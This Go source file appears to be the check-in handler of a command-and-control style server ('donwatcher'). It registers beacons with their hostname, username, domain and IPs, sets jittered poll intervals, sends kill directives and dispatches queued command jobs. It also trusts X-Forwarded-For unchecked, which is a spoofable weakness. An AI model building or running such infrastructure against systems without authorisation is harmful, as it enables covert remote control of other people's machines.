package server

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"github.com/Rival420/donwatcher/activity"
	"github.com/Rival420/donwatcher/beacon"
	"github.com/Rival420/donwatcher/protocol"
)

// maxCheckInBody bounds the check-in request size.
const maxCheckInBody = 1 << 20

// handleCheckIn is the beacon entry point: register or update, then hand out
// claimed jobs. Jobs are durably marked sent before the response body is
// written, so a beacon that crashes mid-download loses the job rather than
// racing a second delivery.
func (s *Server) handleCheckIn(w http.ResponseWriter, r *http.Request) {
	if !requireMethod(w, r, http.MethodPost) {
		return
	}

	body, err := io.ReadAll(io.LimitReader(r.Body, maxCheckInBody))
	if err != nil {
		writeError(w, http.StatusBadRequest, "failed to read request body")
		return
	}

	req, err := protocol.ParseCheckIn(body)
	if err != nil {
		writeDomainError(w, err)
		return
	}

	beaconID, err := beacon.ResolveIdentity(req.MachineName, req.MACs[0])
	if err != nil {
		writeDomainError(w, err)
		return
	}

	if !s.limiter.allow(beaconID) {
		s.logger.Warnw("Check-in rate limited", "beacon_id", shortID(beaconID))
		writeError(w, http.StatusTooManyRequests, "check-in rate exceeded")
		return
	}

	cfg := s.checkinConfig()
	now := time.Now().UTC()

	incoming := &beacon.Beacon{
		ID:                  beaconID,
		Hostname:            req.MachineName,
		OS:                  req.OS,
		Platform:            req.Platform,
		InternalIP:          req.Addresses[0],
		ExternalIP:          remoteIP(r),
		Username:            req.Username,
		Domain:              req.Domain,
		Descriptors:         req.Descriptors,
		PollIntervalSeconds: cfg.DefaultPollSeconds,
		JitterPercent:       cfg.DefaultJitterPct,
	}

	stored, created, err := s.beacons.UpsertCheckIn(incoming, now)
	if err != nil {
		s.logger.Errorw("Check-in upsert failed",
			"beacon_id", shortID(beaconID),
			"error", err)
		writeDomainError(w, err)
		return
	}

	if created {
		s.activity.Record(beaconID, activity.CategoryRegistration,
			fmt.Sprintf("beacon %s registered from %s", stored.Hostname, stored.ExternalIP))
		s.logger.Infow("Beacon registered",
			"beacon_id", shortID(beaconID),
			"hostname", stored.Hostname,
			"external_ip", stored.ExternalIP)
	} else {
		s.activity.Record(beaconID, activity.CategoryCheckIn,
			fmt.Sprintf("check-in #%d from %s", stored.CheckInCount, stored.Hostname))
	}

	resp := protocol.CheckInResponse{
		BeaconID:            beaconID,
		PollIntervalSeconds: stored.PollIntervalSeconds,
		JitterPercent:       stored.JitterPercent,
		Jobs:                []protocol.JobDelivery{},
	}

	// A killed beacon gets the directive and nothing else. The flag stays
	// set no matter how often it checks in.
	if stored.Killed {
		resp.Kill = true
		s.activity.Record(beaconID, activity.CategoryKill,
			"kill directive delivered at check-in")
		writeJSON(w, http.StatusOK, resp)
		return
	}

	claimed, err := s.jobs.ClaimPending(beaconID, cfg.MaxJobs, now)
	if err != nil {
		s.logger.Errorw("Job claim failed",
			"beacon_id", shortID(beaconID),
			"error", err)
		writeError(w, http.StatusInternalServerError, "job claim failed")
		return
	}

	for _, j := range claimed {
		resp.Jobs = append(resp.Jobs, protocol.JobDelivery{
			ID:      j.ID,
			JobType: j.JobType,
			Command: j.Command,
			Params:  j.Params,
		})
		s.activity.Record(beaconID, activity.CategoryJob,
			fmt.Sprintf("job %s (%s) dispatched", j.ID, j.JobType))
	}

	if len(claimed) > 0 {
		s.logger.Infow("Jobs dispatched",
			"beacon_id", shortID(beaconID),
			"count", len(claimed))
	}

	writeJSON(w, http.StatusOK, resp)
}

// remoteIP extracts the peer address, preferring X-Forwarded-For when the
// server sits behind a proxy.
func remoteIP(r *http.Request) string {
	if fwd := r.Header.Get("X-Forwarded-For"); fwd != "" {
		return fwd
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}
